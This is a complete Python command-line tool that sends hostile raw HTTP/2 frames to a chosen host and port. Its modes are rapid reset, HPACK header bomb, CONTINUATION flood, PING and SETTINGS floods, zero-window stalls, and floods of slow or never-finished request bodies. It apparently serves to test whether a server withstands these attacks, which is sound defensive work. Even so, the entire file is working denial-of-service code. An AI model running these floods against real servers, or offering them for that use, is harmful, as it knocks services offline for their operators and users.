#!/usr/bin/python3
"""Hostile HTTP/2 (h2c prior knowledge) clients, raw frames over a socket; hpack for headers.

Usage: h2attack.py ATTACK HOST PORT [options]
  bodies        C connections x S streams, each declaring (or not: --no-length) SIZE bytes and
                sending as fast as the server's windows allow (--stall: never), for --seconds; a
                finished stream is replaced by a new one. Prints statuses, resets, bytes sent.
  hpack-bomb    one 4000-byte header in the HPACK dynamic table, then header blocks of one-byte
                references to it (each decodes to ~4 KB) until the server closes.
  continuation  HEADERS without END_HEADERS, then CONTINUATION frames until the server closes.
  ping          PING frames without reading (small receive buffer), then reads (--half-close:
                shuts its sending side down first).
  settings      SETTINGS frames without reading, then reads.
  rapid-reset   HEADERS + RST_STREAM(CANCEL) pairs until the server closes.
  zero-window   SETTINGS_INITIAL_WINDOW_SIZE 0, GET PATH: waits for the server's RST_STREAM.
Output: key=value lines; "outcome=" says how it ended (goaway CODE / rst CODE / ...).
Uses Debian's python3-h2 dependencies (python3-hpack) only.
"""
import argparse
import select
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINUPD, CONT = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
         5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL",
         9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def settings(pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


class Conn:
    def __init__(self, host, port, rcvbuf=0, initial_window=1 << 30):
        self.s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            self.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.s.connect((host, port))
        self.enc, self.dec = hpack.Encoder(), hpack.Decoder()
        self.dec.max_header_list_size = 1 << 24
        self.inbuf = b""
        self.out = bytearray()
        self.goaway = None
        self.eof = False
        self.rst = {}
        self.status = {}
        self.ended = set()  # streams the server ended (END_STREAM)
        self.peer = {3: 100, 4: 65535}
        self.conn_win = 65535
        self.win_upd = {}
        self.hblock = None
        iv = [(4, initial_window)] if initial_window is not None else []
        self.s.sendall(PREFACE + settings(iv + [(2, 0)]))
        if initial_window and initial_window > 65535:
            self.s.sendall(frame(WINUPD, 0, 0, struct.pack(">I", (1 << 30))))

    def headers_block(self, path, method="GET", extra=()):
        hs = [(":method", method), (":scheme", "http"), (":path", path),
              (":authority", "127.0.0.1")] + list(extra)
        return self.enc.encode(hs)

    def on_frame(self, ftype, flags, sid, p):
        if ftype in (HEADERS, DATA) and flags & END_STREAM:
            self.ended.add(sid)
        if ftype == SETTINGS and not flags & ACK:
            for i in range(0, len(p) - 5, 6):
                k, v = struct.unpack(">HI", p[i:i + 6])
                self.peer[k] = v
            self.out += frame(SETTINGS, ACK, 0)
        elif ftype == PING and not flags & ACK:
            self.out += frame(PING, ACK, 0, p)
        elif ftype == GOAWAY:
            last, code = struct.unpack(">II", p[:8])
            self.goaway = (code, last & 0x7FFFFFFF)
        elif ftype == RST:
            self.rst[sid] = struct.unpack(">I", p[:4])[0]
        elif ftype == WINUPD:
            n = struct.unpack(">I", p[:4])[0] & 0x7FFFFFFF
            if sid == 0:
                self.conn_win += n
            else:
                self.win_upd[sid] = self.win_upd.get(sid, 0) + n
        elif ftype in (HEADERS, CONT):
            if ftype == HEADERS:
                pad = 0
                if flags & 0x8:
                    pad = p[0]
                    p = p[1:]
                if flags & 0x20:
                    p = p[5:]
                if pad:
                    p = p[:-pad]
                self.hblock = (sid, bytearray(p))
            else:
                self.hblock[1].extend(p)
            if flags & END_HEADERS:
                hs = self.dec.decode(bytes(self.hblock[1]))
                for k, v in hs:
                    if k in (":status", b":status"):
                        self.status[self.hblock[0]] = int(v)
                self.hblock = None
        elif ftype == DATA and p:
            self.out += frame(WINUPD, 0, 0, struct.pack(">I", len(p)))

    def parse(self):
        while len(self.inbuf) >= 9:
            n = int.from_bytes(self.inbuf[:3], "big")
            if len(self.inbuf) < 9 + n:
                return
            ftype, flags = self.inbuf[3], self.inbuf[4]
            sid = struct.unpack(">I", self.inbuf[5:9])[0] & 0x7FFFFFFF
            p = self.inbuf[9:9 + n]
            self.inbuf = self.inbuf[9 + n:]
            self.on_frame(ftype, flags, sid, p)

    def readable(self):
        try:
            d = self.s.recv(1 << 20)
        except (ConnectionResetError, BlockingIOError):
            d = b""
        if not d:
            self.eof = True
            return
        self.inbuf += d
        self.parse()

    def pump(self, timeout):
        """Reads (and answers PINGs/SETTINGS) for up to timeout seconds or until EOF."""
        end = time.monotonic() + timeout
        while not self.eof:
            left = end - time.monotonic()
            if left <= 0:
                return
            r, _, _ = select.select([self.s], [], [], left)
            if r:
                self.readable()
            self.flush()

    def flush(self):
        if self.out and not self.eof:
            try:
                self.s.sendall(bytes(self.out))
            except OSError:
                self.eof = True
            self.out.clear()

    def send(self, b):
        try:
            self.s.sendall(b)
            return True
        except OSError:
            return False


def outcome(c, started):
    ms = int((time.monotonic() - started) * 1000)
    if c.goaway:
        print(f"outcome=goaway code={CODES.get(c.goaway[0], c.goaway[0])} after_ms={ms}")
    elif c.eof:
        print(f"outcome=closed-without-goaway after_ms={ms}")
    else:
        print(f"outcome=still-open after_ms={ms}")


def until_closed(c, send_one, seconds, read_as_you_go=True):
    started = time.monotonic()
    sent = 0
    while time.monotonic() - started < seconds and not c.eof and not c.goaway:
        if not c.send(send_one(sent)):
            break
        sent += 1
        if read_as_you_go and sent % 16 == 0:
            r, _, _ = select.select([c.s], [], [], 0)
            if r:
                c.readable()
                c.flush()
    c.pump(3)
    print(f"frames_sent={sent}")
    outcome(c, started)


def hpack_bomb(a):
    if a.repeat:
        return bomb_repeat(a)
    c = Conn(a.host, a.port)
    big = b"a" * 4000
    # literal with incremental indexing, new name "x": goes to dynamic table index 62
    first = bytes([0x40, 1]) + b"x" + bytes([0x7F]) + hpack_int(len(big) - 127) + big
    base = STATIC_GET
    refs = b"\xbe" * (16384 - len(base) - len(first) - 16)
    sid = [1]

    def one(i):
        s = sid[0]
        sid[0] += 2
        blk = (base + first + refs) if i == 0 else (base + b"\xbe" * 16300)
        return frame(HEADERS, END_HEADERS | END_STREAM, s, blk)

    until_closed(c, one, a.seconds)


def lit(name, value):
    """Literal header field without indexing, new name (no dynamic table change); short only."""
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


# GET /healthz from the static table and literals that leave the dynamic table alone
STATIC_GET = b"\x82\x86" + b"\x04\x08/healthz" + b"\x01\x09127.0.0.1"


def bomb_repeat(a):
    """Sustained: a new bomb connection as soon as the last one is closed, for --seconds."""
    started = time.monotonic()
    n, codes, worst = 0, {}, 0
    big = b"a" * 4000
    first = bytes([0x40, 1]) + b"x" + bytes([0x7F]) + hpack_int(len(big) - 127) + big
    while time.monotonic() - started < a.seconds:
        c = Conn(a.host, a.port)
        t0 = time.monotonic()
        sid = 1
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, STATIC_GET + first + b"\xbe" * 12000))
        while not c.eof and not c.goaway and time.monotonic() - t0 < 5:
            sid += 2
            if not c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, STATIC_GET + b"\xbe" * 16000)):
                break
            r, _, _ = select.select([c.s], [], [], 0)
            if r:
                c.readable()
        c.pump(1)
        code = CODES.get(c.goaway[0], c.goaway[0]) if c.goaway else "none"
        codes[code] = codes.get(code, 0) + 1
        worst = max(worst, int((time.monotonic() - t0) * 1000))
        c.s.close()
        n += 1
    print(f"connections={n} worst_ms={worst}")
    print("goaway_codes=" + ",".join(f"{k}:{v}" for k, v in sorted(codes.items())))
    ok = codes.get("ENHANCE_YOUR_CALM", 0) == n
    print(f"outcome={'goaway code=ENHANCE_YOUR_CALM' if ok else 'mixed'}")


def hpack_int(n):
    out = bytearray()
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def continuation(a):
    c = Conn(a.host, a.port)
    c.send(frame(HEADERS, END_STREAM, 1, STATIC_GET))
    filler = lit(b"x-filler", b"b" * 100)

    def one(i):
        return frame(CONT, 0, 1, filler)

    until_closed(c, one, a.seconds)


def flood(a, kind):
    c = Conn(a.host, a.port, rcvbuf=4096)
    c.pump(0.2)

    def one(i):
        if kind == "ping":
            return frame(PING, 0, 0, struct.pack(">Q", i))
        return frame(SETTINGS, 0, 0, b"")

    started = time.monotonic()
    sent = 0
    # do not read: the server's acknowledgements pile up
    while sent < a.count and time.monotonic() - started < a.seconds:
        if not c.send(b"".join(one(sent + j) for j in range(64))):
            break
        sent += 64
    time.sleep(0.3)
    if a.half_close:
        c.s.shutdown(socket.SHUT_WR)  # done sending: the server must still flush its GOAWAY
    c.pump(3)
    print(f"frames_sent={sent}")
    outcome(c, started)


def rapid_reset(a):
    c = Conn(a.host, a.port)
    c.pump(0.1)
    sid = [1]

    def one(i):
        s = sid[0]
        sid[0] += 2
        return frame(HEADERS, END_HEADERS | END_STREAM, s, c.headers_block("/healthz")) + \
            frame(RST, 0, s, struct.pack(">I", 8))

    until_closed(c, one, a.seconds)


def zero_window(a):
    c = Conn(a.host, a.port, initial_window=0)
    c.pump(0.1)
    started = time.monotonic()
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, c.headers_block(a.path)))
    while time.monotonic() - started < a.seconds and 1 not in c.rst and not c.eof:
        c.pump(0.05)
    ms = int((time.monotonic() - started) * 1000)
    print(f"status={c.status.get(1, 0)}")
    if 1 in c.rst:
        print(f"outcome=rst code={CODES.get(c.rst[1], c.rst[1])} after_ms={ms}")
    else:
        outcome(c, started)
    if a.hold:
        c.pump(a.hold)  # keep the connection open (the caller looks at the server meanwhile)


def bodies(a):
    conns = [Conn(a.host, a.port) for _ in range(a.conns)]
    for c in conns:
        c.pump(0.05)
        c.s.setblocking(False)
        c.streams = {}
        c.next_sid = 1
    chunk = b"\0" * 16384
    stats = {"opened": 0, "bytes": 0, "resets": 0}
    started = time.monotonic()

    def open_stream(c):
        sid = c.next_sid
        c.next_sid += 2
        extra = [("content-type", "application/xml")]
        if not a.no_length:
            extra.append(("content-length", str(a.size)))
        c.out += frame(HEADERS, END_HEADERS, sid, c.headers_block(a.path, a.method, extra))
        c.streams[sid] = [a.size, c.peer.get(4, 65535)]
        stats["opened"] += 1

    while time.monotonic() - started < a.seconds:
        live = [c for c in conns if not c.eof and not c.goaway]
        if not live:
            break
        for c in live:
            for sid in [s for s in c.streams if s in c.status or s in c.rst]:
                st = c.streams[sid]
                if sid in c.rst:
                    stats["resets"] += 1
                    del c.streams[sid]
                    continue
                # answered early (503): the upload goes on to its declared end, as a client
                # that ignores the answer would do; the server discards it
                if sid in c.ended and st[0] == 0:
                    del c.streams[sid]
            while len(c.streams) < min(a.streams, c.peer.get(3, 100)) and \
                    stats["opened"] < a.max_streams:
                open_stream(c)
            for sid, st in c.streams.items():
                st[1] += c.win_upd.pop(sid, 0)
                while not a.stall and st[0] > 0 and st[1] > 0 and c.conn_win > 0 and \
                        len(c.out) < (1 << 20):
                    n = min(len(chunk), st[0], st[1], c.conn_win)
                    st[0] -= n
                    st[1] -= n
                    c.conn_win -= n
                    stats["bytes"] += n
                    c.out += frame(DATA, END_STREAM if st[0] == 0 else 0, sid, chunk[:n])
        rl = [c.s for c in live]
        wl = [c.s for c in live if c.out]
        r, w, _ = select.select(rl, wl, [], 0.05)
        for c in live:
            if c.s in r:
                c.readable()
            if c.s in w and c.out:
                try:
                    n = c.s.send(c.out)
                    del c.out[:n]
                except BlockingIOError:
                    pass
                except OSError:
                    c.eof = True
    codes = {}
    for c in conns:
        for v in c.status.values():
            codes[v] = codes.get(v, 0) + 1
    print(f"streams_opened={stats['opened']} bytes_sent={stats['bytes']} resets={stats['resets']}")
    print("statuses=" + ",".join(f"{k}:{v}" for k, v in sorted(codes.items())))
    ga = [CODES.get(c.goaway[0], c.goaway[0]) for c in conns if c.goaway]
    print(f"goaways={len(ga)}{(' ' + ','.join(sorted(set(ga)))) if ga else ''}")
    print(f"outcome={'served' if codes else 'nothing-answered'}")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("attack")
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--seconds", type=float, default=5)
    ap.add_argument("--count", type=int, default=200000)
    ap.add_argument("--conns", type=int, default=8)
    ap.add_argument("--streams", type=int, default=100)
    ap.add_argument("--max-streams", type=int, default=1 << 30)
    ap.add_argument("--size", type=int, default=4 * 1024 * 1024 - 4096)
    ap.add_argument("--no-length", action="store_true")
    ap.add_argument("--stall", action="store_true")  # bodies: headers only, the data never comes
    ap.add_argument("--path", default="/healthz")
    ap.add_argument("--method", default="GET")
    ap.add_argument("--hold", type=float, default=0)
    ap.add_argument("--repeat", action="store_true")
    ap.add_argument("--half-close", action="store_true")
    a = ap.parse_args()
    fn = {"bodies": bodies, "hpack-bomb": hpack_bomb, "continuation": continuation,
          "ping": lambda a: flood(a, "ping"), "settings": lambda a: flood(a, "settings"),
          "rapid-reset": rapid_reset, "zero-window": zero_window}.get(a.attack)
    if not fn:
        print(f"h2attack: unknown attack {a.attack}", file=sys.stderr)
        sys.exit(2)
    fn(a)


if __name__ == "__main__":
    main()
